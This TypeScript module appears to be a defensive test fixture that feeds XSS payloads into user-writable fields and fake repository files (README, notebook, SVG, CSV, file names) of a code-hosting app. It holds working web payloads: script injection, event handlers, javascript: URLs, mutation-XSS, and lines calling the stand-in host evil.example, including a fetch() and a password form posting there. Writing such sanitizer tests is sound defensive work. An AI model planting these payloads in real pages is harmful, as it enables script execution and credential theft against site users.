/** What attackers write into every text that people can write. */

/**
 * Each sets `pwned` where it runs, or leaves an element or an attribute of that name where it is taken for HTML. Those that are short fit into names.
 */
export const SHORT: readonly string[] = [
  `<x-pwned></x-pwned>`,
  `<script>pwned=1</script>`,
  `"><img src=x onerror=pwned=1>`,
  `'><svg onload=pwned=1>`,
  `</title></textarea><x-pwned>`,
  `"onfocus="pwned=1"autofocus="`,
  ["$", "{pwned=1}`+(pwned=1)+`{{pwned=1}}"].join(""),
  `&lt;img src=x onerror=pwned=1&gt;`,
  `javascript:pwned=1`,
  `<!--<x-pwned>--!><x-pwned>`,
  `\u202e<x-pwned>\u2066\u200b`,
  `]]></script><x-pwned>`,
]

/** A name that has something of each kind: of a branch, a file, a person. */
export const NAME = `"'><x-pwned><img src=x onerror=pwned=1>`
/** The same as git and file systems take it. */
export const REFERENCE = `"'><x-pwned><svg/onload=pwned=1>`

/** Texts of any length. */
export const LONG: readonly string[] = [
  ...SHORT,
  // Scripts.
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>pwned=1</scr</script>ipt>`,
  `<script>pwned=1`,
  `<![CDATA[<script>pwned=1</script>]]>`,
  `&#60;script&#62;pwned=1&#60;/script&#62; &amp;lt;script&amp;gt;pwned=1`,
  `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
  `<xmp><script>pwned=1</script></xmp><template shadowrootmode=open><script>pwned=1</script></template>`,
  `<plaintext><x-pwned>`,
  // Handlers.
  `<details open ontoggle=pwned=1>x</details><video src=x onloadstart=pwned=1 autoplay></video>`,
  `<input type=checkbox autofocus onfocus=pwned=1><body onload=pwned=1>`,
  `![x" onerror="pwned=1](x.png) [x](y "a\\" onclick=\\"pwned=1")`,
  '```js" data-pwned="1\npwned=1\n```',
  "`x` <code class='\" data-pwned=1'>y</code>",
  // Addresses that run.
  `[x](javascript:pwned=1) [x](JaVaScRiPt:pwned=1) [x](java&#115;cript:pwned=1) [x](javascript&colon;pwned=1)`,
  `[x](\u0001javascript:pwned=1) [x](<java\tscript:pwned=1>) <javascript:pwned=1> [x][y]\n\n[y]: javascript:pwned=1`,
  `<a href='java\nscript:pwned=1'>x</a> <a href="jav&#x09;ascript:pwned=1">x</a> <a href=vbscript:pwned>x</a>`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+) ![x](data:image/svg+xml;base64,PHN2Zz4=)`,
  `<img src='data:text/html,<script>pwned=1</script>'><img srcset='https://evil.example/a.png 1x, javascript:pwned=1 2x'>`,
  `<a href=x ping=https://evil.example data-pwned>x</a> [x](//evil.example "x") [[javascript:pwned=1]] [[x|javascript:pwned=1]]`,
  `![x](http://127.0.0.1:1/evil.png) <video poster=https://evil.example/x.png src=https://evil.example/x.mp4></video>`,
  // Other namespaces, and what is read otherwise the second time.
  `<svg><script>pwned=1</script></svg><svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:pwned=1 /></svg><svg><use href='data:image/svg+xml,<svg id=x />#x'/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>`,
  `<svg></p><style><a id="</style><img src=1 onerror=pwned=1>">`,
  `<math><annotation-xml encoding="text/html"><x-pwned></annotation-xml></math>`,
  // What changes the page.
  `<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><iframe src=javascript:parent.pwned=1></iframe>`,
  `<object data=https://evil.example/x></object><embed src=https://evil.example/x>`,
  `<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content='0;url=https://evil.example/'>`,
  `<form action=https://evil.example><input name=password><button formaction=javascript:pwned=1>go</button></form>`,
  `<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example/b) }</style>`,
  `<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>`,
  `<a id=attributes name=body>x</a><img name=forms src=x><p id=main>x</p>`,
  // Mentions and the like.
  `@ann" data-pwned=1 @<x-pwned> #1<x-pwned> :<x-pwned>: a/b#1" data-pwned=1`,
  `> [!NOTE]<x-pwned>\n> <img src=x onerror=pwned=1>`,
  `| <x-pwned> | b |\n|:-:" data-pwned=1|---|\n| <img src=x onerror=pwned=1> | \`</td><script>\` |`,
  `[^"><x-pwned>]\n\n[^"><x-pwned>]: x`,
  // Characters, and the end of the page.
  `\ufeff<img src=x onerror=pwned=1>\u2028<script>\u2029pwned=1</script>`,
  `</div></main></body></html><script>pwned=1</script>`,
  `</td></tr></table></details></section><x-pwned>`,
]

const ALL = LONG.join("\n\n")

/** A picture that is a program. */
export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"><script>pwned=1;fetch("https://evil.example")</script><image href="https://evil.example/x.png"/></svg>`

const NOTEBOOK = JSON.stringify({
  nbformat: 4,
  nbformat_minor: 5,
  metadata: { language_info: { name: NAME } },
  cells: [
    { cell_type: "markdown", metadata: {}, source: [ALL] },
    {
      cell_type: "code",
      metadata: {},
      source: SHORT,
      execution_count: 1,
      outputs: [
        {
          output_type: "display_data",
          metadata: {},
          data: { "text/html": [ALL], "image/svg+xml": SVG, "text/markdown": ALL, "text/plain": NAME },
        },
        { output_type: "stream", name: NAME, text: SHORT },
        { output_type: "error", ename: NAME, evalue: NAME, traceback: SHORT },
      ],
    },
  ],
})

/** Files of a repository, by path. */
export const FILES: Readonly<Record<string, string>> = {
  "README.md": `---\ntitle: ${JSON.stringify(NAME)}\n"<x-pwned>": [1]\n---\n${ALL}\n`,
  "pages/README.html": `<!doctype html>${ALL}`,
  "pages/page.html": `<!doctype html><script>pwned=1</script>${ALL}`,
  "pages/picture.svg": SVG,
  "pages/book.ipynb": NOTEBOOK,
  "pages/table.csv": `${NAME.replaceAll('"', "")},b\n${SHORT.map((text) => `"${text.replaceAll('"', '""')}"`).join("\n")}\n`,
  "pages/code.js": `// ${SHORT.join("\n// ")}\nconst a = \`${NAME}\`\n`,
  "pages/paper.pdf": `%PDF-1.4 ${ALL}`,
  "pages/notes.rst": ALL,
  "pages/notes.org": `#+HTML: <x-pwned>\n${ALL}`,
  [`names/${NAME}.md`]: ALL,
  [`names/javascript:pwned=1`]: SHORT.join("\n"),
  [`names/\u202egpj.exe`]: "x",
  ".gitea/issue_template/bug.md": `---\nname: ${JSON.stringify(NAME)}\nabout: ${JSON.stringify(NAME)}\ntitle: ${JSON.stringify(NAME)}\n---\n${ALL}`,
}

export const TEXT = ALL
